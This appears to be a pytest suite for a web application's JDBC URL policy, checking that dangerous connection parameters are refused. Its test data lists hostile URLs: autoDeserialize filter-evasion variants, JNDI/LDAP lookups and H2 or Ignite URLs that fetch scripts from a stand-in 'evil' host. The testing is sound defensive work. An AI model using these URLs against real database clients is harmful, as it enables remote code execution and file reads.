"""JDBC URLs that make a driver run code or open files."""

import pytest

from tests.security.jobs import database, job, refusals
from webapp.policy.urls import DANGEROUS

URL = "/job/content/0/reader/parameter/connection/0/jdbcUrl/0"


@pytest.mark.parametrize("name", [name for names in DANGEROUS.values() for name in names])
def test_a_dangerous_parameter_is_refused_with_how_to_allow_it(name: str) -> None:
    for url in (
        f"jdbc:mysql://db/x?a=b&{name}=C",
        f"jdbc:sqlserver://db;a=b;{name.upper()}=C",
        f"jdbc:db2://db/x:{name}=C;",
    ):
        ((pointer, sentence),) = refusals(database(url))
        assert pointer == URL and name.lower() in sentence and "ALLOWED_URL_PARAMETERS" in sentence


TRICKS = [
    "jdbc:mysql://db/x?AUTODESERIALIZE=true",
    "jdbc:mysql://db/x?auto%44eserialize=true",
    "jdbc:mysql://db/x?auto%2544eserialize=true",
    "jdbc:mysql://db/x?%61utoDeserialize=%74rue",
    "jdbc:mysql://db/x?autoDeserialize=false&autoDeserialize=true",
    "jdbc:mysql://db/x?autoDeserialize=true#&autoDeserialize=false",
    "jdbc:mysql://db/x? autoDeserialize = true",
    "jdbc:mysql://db/x?\tautoDeserialize=yes",
    "jdbc:mysql://db/x?autoDeserialize",
    "jdbc:mysql://db/x?autoDeserialize&a=b",
    "jdbc:mysql://(host=db,port=3306,autoDeserialize=true)/x",
    "jdbc:mysql://address=(host=db)(port=3306)(autoDeserialize=true)/x",
    "jdbc:mysql://[(host=a,port=1),(host=b,AutoDeserialize=true)]/x",
    "jdbc:mysql:loadbalance://db/x?autoDeserialize=true",
    "jdbc:mysql+srv://db/x?autoDeserialize=true",
    " jdbc:mysql://db/x?autoDeserialize=true",
    "JDBC:MySQL://db/x?autoDeserialize=true",
    "jdbc:mysql://db/x?auto\u200bDeserialize=true",
    "jdbc:mysql://db/x?autoDe\u017ferialize=true",
    "jdbc:mysql://db/x?autoDeser\u0131alize=true",
    "||_dsc_ob10_dsc_||a:b||_dsc_ob10_dsc_||jdbc:mysql://db/x?autoDeserialize=true",
]


@pytest.mark.parametrize("url", TRICKS)
def test_no_way_of_writing_it_passes(url: str) -> None:
    assert [pointer for pointer, _ in refusals(database(url), DENIED_HOSTS="none")] == [URL]


@pytest.mark.parametrize(
    "url",
    [
        "jdbc:h2:mem:x",
        "jdbc:h2:file:/etc/x",
        "jdbc:h2:/tmp/x;IFEXISTS=TRUE",
        "jdbc:h2:tcp://db/x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:derby:memory:x;create=true",
        "jdbc:hsqldb:file:/tmp/x",
        "jdbc:duckdb:/tmp/x",
        "jdbc:sqlite::resource:http://evil/x.db",
        "jdbc:sqlite:/nowhere/var/files/x.db?enable_load_extension=true",
        "jdbc:hive2:///x",
        "jdbc:hive2://;initFile=/x",
        "jdbc:calcite:model=inline:{}",
        "jdbc:ignite:cfg://http://evil/x.xml",
        "jdbc:firebirdsql:embedded:/etc/x",
        "jdbc:ucanaccess:///etc/x",
        "jdbc:phoenix:thin:url=http://db;httpclient_impl=Evil",
        "jdbc:oracle:thin:@ldap://evil/x",
        "jdbc:oracle:thin:@config-https://evil/x",
        "jdbc:oracle:oci:@x",
        "jdbc:db2://db/x:clientRerouteServerListJNDIName=ldap://evil/x;",
        "jdbc:mysql://db/x?anything=jndi:ldap://evil",
    ],
)
def test_what_opens_files_or_loads_objects_by_itself_is_refused(url: str) -> None:
    assert [pointer for pointer, _ in refusals(database(url, "rdbmsreader"), DENIED_HOSTS="none")][:1] == [URL]


@pytest.mark.parametrize(
    "url",
    [
        "jdbc:mysql://127.0.0.1:3306/x?useSSL=false&serverTimezone=UTC&useCursorFetch=true&rewriteBatchedStatements=true",
        "jdbc:mysql://127.0.0.1/x?autoDeserialize=false&allowLoadLocalInfile=false&allowUrlInLocalInfile=false",
        "jdbc:postgresql://127.0.0.1/logger?ssl=true&sslfactory=org.postgresql.ssl.NonValidatingFactory&sslrootcert=/etc/ssl/certs/x.pem",
        "jdbc:sqlserver://127.0.0.1:1433;databaseName=init;encrypt=true;trustServerCertificate=true",
        "jdbc:oracle:thin:@//127.0.0.1:1521/service",
        "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=127.0.0.1)(PORT=1521))(CONNECT_DATA=(SERVICE_NAME=x)))",
        "jdbc:db2://127.0.0.1:50000/x:currentSchema=A;",
        "jdbc:h2:tcp://127.0.0.1/x",
        "jdbc:hive2://127.0.0.1:10000/default;principal=hive/_HOST@REALM",
        "jdbc:phoenix:127.0.0.1:2181",
    ],
)
def test_an_ordinary_url_passes(url: str) -> None:
    assert refusals(database(url, "rdbmsreader")) == []


def test_a_url_is_found_wherever_it_stands() -> None:
    nested = {"anything": [{"deep": "jdbc:mysql://db/x?autoDeserialize=true"}]}
    ((pointer, _),) = refusals(database("jdbc:mysql://127.0.0.1/x", **nested))
    assert pointer == "/job/content/0/reader/parameter/anything/0/deep"


@pytest.mark.parametrize(
    "parameter",
    [
        {"queryServerAddress": "http://127.0.0.1:8765;httpclient_impl=Evil"},
        {"queryServerAddress": "http://127.0.0.1:8765", "serialization": "PROTOBUF;httpclient_impl=Evil"},
    ],
)
def test_a_piece_of_a_url_is_looked_at_too(parameter: dict[str, str]) -> None:
    """The plugin puts the URL together itself."""
    ((pointer, sentence),) = refusals(job(reader={"name": "hbase20xsqlreader", "parameter": parameter}))
    assert pointer.rpartition("/")[2] in parameter and sentence.startswith("httpclient_impl ")


def test_a_setting_lets_one_through() -> None:
    url = "jdbc:mysql://127.0.0.1/x?allowLoadLocalInfile=true&autoDeserialize=true"
    ((_, sentence),) = refusals(database(url), ALLOWED_URL_PARAMETERS="allowLoadLocalInfile")
    assert sentence.startswith("autodeserialize ")


def test_a_sentence_never_shows_the_url() -> None:
    assert "s3cret" not in str(refusals(database("jdbc:mysql://u:s3cret@db/x?autoDeserialize=s3cret&password=s3cret")))
